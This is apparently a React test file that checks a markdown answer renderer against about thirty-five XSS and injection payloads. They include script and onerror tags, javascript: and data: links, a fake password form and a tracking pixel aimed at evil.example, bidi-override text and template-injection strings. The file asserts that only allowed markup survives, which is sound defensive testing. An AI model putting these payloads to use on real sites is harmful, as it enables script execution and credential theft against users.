import { render } from '@testing-library/react';
import { expect, test } from 'vitest';
import { createRandom } from '#lib/random.ts';
import type { MessageSource } from '../../contract/conversations.ts';
import { AnswerText } from './answer-text.tsx';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg/onload=alert(1)>',
  '</p></div><form action="https://evil.example"><input name=password>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<a href="javascript:alert(1)">here</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[here](javascript:alert(1))',
  '[here](JaVaScRiPt&colon;alert(1))',
  '[here](data:text/html;base64,PHNjcmlwdD4=)',
  '[here](vbscript:msgbox)',
  '[here](//evil.example)',
  '[here](\\\\evil.example)',
  '[here](https://ok.example" onmouseover="alert(1))',
  '![a picture](https://evil.example/pixel.png?secret=1)',
  '[![nested](https://evil.example/a.png)](javascript:alert(1))',
  '[1](https://evil.example) [2][9] [007] [-1] [1,9] [1, 2]',
  '| a | b |\n|---|---|\n| <b>c</b> | d |',
  '| [x](javascript:alert(1)) | `<b>` |\n|:-:|--:|\n| ![p](//evil.example/p.png) | [1] |',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~ js onclick=alert(1) class="btn"\n</code></pre><script>alert(1)</script>\n~~~',
  '`<img src=x onerror=alert(1)>` ``` ` ```',
  '> <b>quoted</b>\n> > [x](data:text/html,1)\n\n---',
  '<https://ok.example> <javascript:alert(1)> <mailto:a@ok.example> https://ok.example/"onclick=alert(1)',
  '[1]: https://evil.example "t"\n\n[1] [x][1] [evil]\n\n[evil]: javascript:alert(1)',
  '- [x] done\n- [ ] <input type=checkbox>\n\n3. third\n\n   ```\n   nested\n   ```',
  '&#60;script&#62; &lt;b&gt; \\<b\\> ~~gone~~ $x^2$ H~2~O ==mark== :smile: [^1]\n\n[^1]: note',
  '```html\n<script>alert(1)</script>\n```',
  '# Title\n## <u>Heading</u>\n### [x](javascript:alert(1))',
  '\u202egnp.exe\u202c \u2066<b>\u2069 \u200f[\u202eera](https://evil.example)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '\u0000\u0008\ufffe\ud800 <\u0000script>',
  '<!--><script>alert(1)</script-->',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];
const FRAMES = [
  (text: string) => text,
  (text: string) => `**${text}**`,
  (text: string) => `*a **${text}** b*`,
  (text: string) => `- ${text}\n- [${text}](https://ok.example)`,
  (text: string) => `1. ${text}\n\n## ${text}`,
  (text: string) => `[${text}](/refund-policy) [1]`,
  (text: string) => `${'**'.repeat(50)}${text}${'['.repeat(50)}`,
];
const LONG_LINES = ['*a', '[a](', '<b>', '**a ', '> ', '- ', '_*', '`', '| a ', '1. a\n', '> - '].map((unit) =>
  unit.repeat(100_000 / unit.length),
);

const hostileAnswers = (() => {
  const random = createRandom(15);
  const mixed = Array.from({ length: 200 - LONG_LINES.length }, (_, at) => {
    const payload = PAYLOADS[at % PAYLOADS.length] ?? '';
    return FRAMES[at % FRAMES.length]?.(`${payload} ${random.pick(PAYLOADS)}`) ?? '';
  });
  return [...mixed, ...LONG_LINES];
})();

const sources: MessageSource[] = [
  { number: 1, kind: 'policy', title: '<b>Refund</b> Policy', heading: '"Trials"', url: '/refund-policy#trials' },
  { number: 2, kind: 'document', title: 'javascript:alert(1).pdf', heading: '', url: null },
];

const OUR_ELEMENTS = new Set(
  'DIV P H3 H4 UL OL LI STRONG EM A SPAN BLOCKQUOTE HR BR CODE PRE SECTION TABLE THEAD TBODY TR TH TD BUTTON'.split(
    ' ',
  ),
);
const OUR_ATTRIBUTES = /^(class|id|tabindex|aria-hidden|aria-label|href|target|rel|start|scope|type)$/;
const EVERY_MARK = `# One

## Two

Text with **bold**, *italic*, \`code\`, [a link](https://example.test), [our page](/privacy) and sources [1] [2].

- item
  1. item

> quote

---

\`\`\`ts
code
\`\`\`

| left | center | right |
|---|:-:|--:|
| 1 | 2 | 3 |
`;
const OUR_PROTOCOLS = /^(https?|mailto):$/;

/** Whether a click leaves the page only for a website or an email, and stays on it only for a given source. */
const isOurLink = (href: string) =>
  URL.canParse(href, 'https://studio.test') &&
  OUR_PROTOCOLS.test(new URL(href, 'https://studio.test').protocol) &&
  (!href.startsWith('#') || /^#source-7-[12]$/.test(href));

const renderAnswer = (content: string) =>
  render(<AnswerText id={7} content={content} sources={sources} isStreaming={false} />);

function classesIn(content: string): Set<string> {
  const { container, unmount } = renderAnswer(content);
  const classes = [...container.querySelectorAll('*')].flatMap((element) => [...element.classList]);
  unmount();
  return new Set(classes);
}

/** What the page would hold that our markup has not. */
function foreignIn(content: string, ourClasses: Set<string>): string[] {
  const { container, unmount } = renderAnswer(content);
  for (const icon of container.querySelectorAll('button > svg.lucide-copy')) icon.remove();
  const foreign = [...container.querySelectorAll('*')].flatMap((element) => [
    ...[...element.classList].filter((name) => !ourClasses.has(name)),
    ...(OUR_ELEMENTS.has(element.tagName) ? [] : [element.tagName]),
    ...element.getAttributeNames().filter((name) => !OUR_ATTRIBUTES.test(name)),
    ...[element.getAttribute('href') ?? '/'].filter((href) => !isOurLink(href)),
  ]);
  unmount();
  return foreign;
}

test('renders 200 hostile answers as our markup only', () => {
  const ourClasses = classesIn(EVERY_MARK);

  const foreign = hostileAnswers.flatMap((content) =>
    foreignIn(content, ourClasses).map((what) => `${what} in ${content}`),
  );

  expect(hostileAnswers).toHaveLength(200);
  expect(foreign).toEqual([]);
});

test('an answer cites only sources that it was given', () => {
  const { container } = render(<AnswerText id={7} content="Yes [1], no [9] and [1, 9]." sources={sources} />);

  const hrefs = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href'));
  expect(hrefs).toEqual(['#source-7-1', '/refund-policy#trials']);
});
